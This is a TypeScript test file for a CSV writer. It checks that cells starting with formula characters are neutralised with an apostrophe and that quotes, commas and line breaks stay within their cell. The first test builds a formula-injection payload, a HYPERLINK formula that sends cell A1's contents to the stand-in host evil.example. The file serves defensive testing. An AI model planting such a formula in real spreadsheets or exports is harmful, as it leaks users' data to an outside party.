// Goal: a file for spreadsheets says what was said, and nothing in it runs. Method: cells that attack, read
// back by a reader that was written from RFC 4180.
import t from 'tap';
import { csvLine } from '../src/csv.ts';

/** The cells of one line as RFC 4180 has them. */
function readLine(line: string): string[] {
  const cells = [...line.matchAll(/(?:"((?:[^"]|"")*)"|([^,"\r\n]*))(?:,|\r\n$)/g)];
  return cells.map(([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain);
}

void t.test('a text that begins like a formula is none', (t) => {
  for (const sign of ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20']) {
    const attack = `${sign}HYPERLINK("https://evil.example/?"&A1,"x")`;
    t.same(readLine(csvLine([attack, 1])), [`'${attack}`, '1'], JSON.stringify(sign));
  }
  t.same(
    readLine(csvLine(['a=1', 'x-y', '幸福里', ' =1'])),
    ['a=1', 'x-y', '幸福里', ' =1'],
    'within a text',
  );
  t.equal(csvLine([-5]), '-5\r\n', 'a number of ours stays one');
  t.end();
});

void t.test('no text leaves its cell', (t) => {
  const cells = ['a,b', 'say "no"', 'two\r\nlines', 'x;=1', '","=1', ''];
  t.same(readLine(csvLine(cells)), cells);
  t.equal(csvLine(['a', undefined, 2]), '"a",,2\r\n');
  t.end();
});
